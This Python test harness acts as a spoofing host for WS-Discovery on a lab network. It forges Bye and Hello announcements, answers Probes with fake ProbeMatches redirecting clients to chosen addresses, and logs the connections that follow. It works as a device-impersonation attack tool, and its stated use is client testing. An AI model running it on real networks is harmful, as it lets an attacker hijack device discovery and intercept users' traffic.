#!/usr/bin/env python3
"""A hostile host on the lab's LAN, for discovery tests (WS-Discovery 1.1 has
no authentication: anyone on the link can announce or answer anything).

  wsd-spoof.py send ADDR bye UUID              Bye for UUID, multicast from ADDR
  wsd-spoof.py send ADDR hello UUID XADDR...   Hello for UUID with XADDRs
  wsd-spoof.py send ADDR repoint UUID XADDR... Bye, then at once Hello with XADDRs
  wsd-spoof.py respond ADDR UUID OUT XADDR...  answers every 2005/04 Probe with
                                               a ProbeMatch for UUID at XADDRs;
                                               OUT gets "ready", then a line per answer
  wsd-spoof.py listen OUT HOST:PORT...         TCP listeners; OUT gets "ready", then
                                               "connection HOST:PORT" per connection

ADDR is the attacker's own IPv4 address on the lab link (the datagrams' source).
Runs until killed (respond, listen) or sends once (send). Messages use the
2005/04 namespaces with an AppSequence InstanceId far above any real one, so
that a receiver cannot drop them as stale.
"""
import select
import socket
import struct
import sys
import uuid
import xml.etree.ElementTree as ET

GROUP = ("239.255.255.250", 3702)
SOAP = "http://www.w3.org/2003/05/soap-envelope"
WSA = "http://schemas.xmlsoap.org/ws/2004/08/addressing"
WSD = "http://schemas.xmlsoap.org/ws/2005/04/discovery"
SCAN = "http://schemas.microsoft.com/windows/2006/08/wdp/scan"
INSTANCE = 4000000000


def envelope(action, body, relates_to=None, to="urn:schemas-xmlsoap-org:ws:2005:04:discovery"):
    relates = "<a:RelatesTo>%s</a:RelatesTo>" % relates_to if relates_to else ""
    return ("<s:Envelope xmlns:s='%s' xmlns:a='%s' xmlns:d='%s' xmlns:sc='%s'><s:Header>"
            "<a:Action>%s/%s</a:Action><a:MessageID>urn:uuid:%s</a:MessageID>%s<a:To>%s</a:To>"
            "<d:AppSequence InstanceId='%d' MessageNumber='1'/></s:Header><s:Body>%s</s:Body></s:Envelope>"
            % (SOAP, WSA, WSD, SCAN, WSD, action, uuid.uuid4(), relates, to, INSTANCE, body)).encode()


def endpoint(device, xaddrs):
    return ("<a:EndpointReference><a:Address>urn:uuid:%s</a:Address></a:EndpointReference>"
            "<d:Types>sc:ScanDeviceType</d:Types><d:XAddrs>%s</d:XAddrs><d:MetadataVersion>1</d:MetadataVersion>"
            % (device, " ".join(xaddrs)))


def sender(addr):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((addr, 0))
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 1)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(addr))
    return s


def send(addr, kind, device, xaddrs):
    bye = envelope("Bye", "<d:Bye><a:EndpointReference><a:Address>urn:uuid:%s</a:Address>"
                   "</a:EndpointReference></d:Bye>" % device)
    hello = envelope("Hello", "<d:Hello>%s</d:Hello>" % endpoint(device, xaddrs))
    messages = {"bye": [bye], "hello": [hello], "repoint": [bye, hello]}[kind]
    s = sender(addr)
    for message in messages:
        s.sendto(message, GROUP)


def note(out, line):
    with open(out, "a") as f:
        f.write(line + "\n")


def respond(addr, device, out, xaddrs):
    listener = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    listener.bind(("", GROUP[1]))
    listener.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP,
                        struct.pack("4s4s", socket.inet_aton(GROUP[0]), socket.inet_aton(addr)))
    reply = sender(addr)
    note(out, "ready")
    while True:
        data, peer = listener.recvfrom(65536)
        try:
            root = ET.fromstring(data)
        except ET.ParseError:
            continue
        if root.find(".//{%s}Probe" % WSD) is None:
            continue
        message_id = root.find(".//{%s}MessageID" % WSA)
        if message_id is None or not message_id.text:
            continue
        body = "<d:ProbeMatches><d:ProbeMatch>%s</d:ProbeMatch></d:ProbeMatches>" % endpoint(device, xaddrs)
        reply.sendto(envelope("ProbeMatches", body, message_id.text.strip(), WSA + "/role/anonymous"), peer)
        note(out, "answered %s:%d" % peer)


def listen(out, endpoints):
    sockets = {}
    for e in endpoints:
        host, port = e.rsplit(":", 1)
        host = host.strip("[]")
        family = socket.AF_INET6 if ":" in host else socket.AF_INET
        s = socket.socket(family, socket.SOCK_STREAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind((host, int(port)))
        s.listen(16)
        sockets[s] = e
    note(out, "ready")
    while True:
        readable, _, _ = select.select(list(sockets), [], [])
        for s in readable:
            connection, _ = s.accept()
            connection.close()
            note(out, "connection %s" % sockets[s])


def main(argv):
    if len(argv) >= 4 and argv[1] == "send":
        send(argv[2], argv[3], argv[4], argv[5:])
    elif len(argv) >= 5 and argv[1] == "respond":
        respond(argv[2], argv[3], argv[4], argv[5:])
    elif len(argv) >= 4 and argv[1] == "listen":
        listen(argv[2], argv[3:])
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    main(sys.argv)
